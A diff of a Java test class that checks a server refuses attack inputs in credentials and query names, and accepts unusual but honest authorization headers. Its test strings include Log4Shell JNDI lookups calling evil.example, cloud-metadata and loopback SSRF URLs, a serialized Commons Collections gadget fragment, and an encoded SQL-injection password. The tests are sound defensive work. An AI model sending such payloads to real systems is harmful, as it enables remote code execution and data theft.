@@ -84,7 +84,7 @@ class InnerDocumentTests extends WaysTest {
 
 	@ParameterizedTest
 	@ValueSource(strings = { "${jndi:ldap://evil.example/a}:x", "${jndi:ldap://evil.example/a}", ATTACK + ":x",
-			"x:" + ATTACK, "${jndi:rmi://evil.example:1099/a}:b", "a:${jndi:dns://evil.example}" })
+			"x:${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/a}:b", "a:${jndi:dns://evil.example}" })
 	void credentialsWhenAnAttackThenAreRefused(String credentials) throws Exception {
 		WaysServer.assertRefused(authorized("Basic " + base64(credentials)));
 		WaysServer.assertRefused(authorized("basic  " + base64(credentials)));
@@ -101,7 +101,9 @@ class InnerDocumentTests extends WaysTest {
 	@ValueSource(strings = { "Bearer abc.def-ghi_j~+/==", "ApiKey 12-ab", "DPoP abc", "Negotiate YIIa'==",
 			"Digest username=\"O'Neill\", realm=\"a\", uri=\"/a?b=c\"", "Token token=\"abc\"",
 			"AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=ab",
-			"Basic YW5uOm8nbmVpbGw=" })
+			"Basic YW5uOm8nbmVpbGw=",
+			// The password: ' or 1=1 --. Only a sink tells whether a password does harm.
+			"Basic YW5uOicgb3IgMT0xIC0t" })
 	void authorizationWhenHonestThenIsRead(String value) throws Exception {
 		assertThat(authorized(value).statusCode()).isEqualTo(200);
 	}
@@ -124,7 +126,8 @@ class InnerDocumentTests extends WaysTest {
 	@ParameterizedTest
 	@ValueSource(strings = { "http://169.254.169.254/latest", "gopher://10.0.0.1/a", "http://0x7f000001/",
 			"http://metadata.google.internal/",
-			"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZA==",
+			"rO0ABXNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyh+j/a3t8zjgCAANbAAVp"
+						+ "QXJnc3QAE1tMamF2YS9sYW5nL09iamVjdDs=",
 			"com.sun.rowset.JdbcRowSetImpl" })
 	void nameWhenAnAttackThenIsRefused(String name) throws Exception {
 		WaysServer.assertRefused(query(name, "1"));
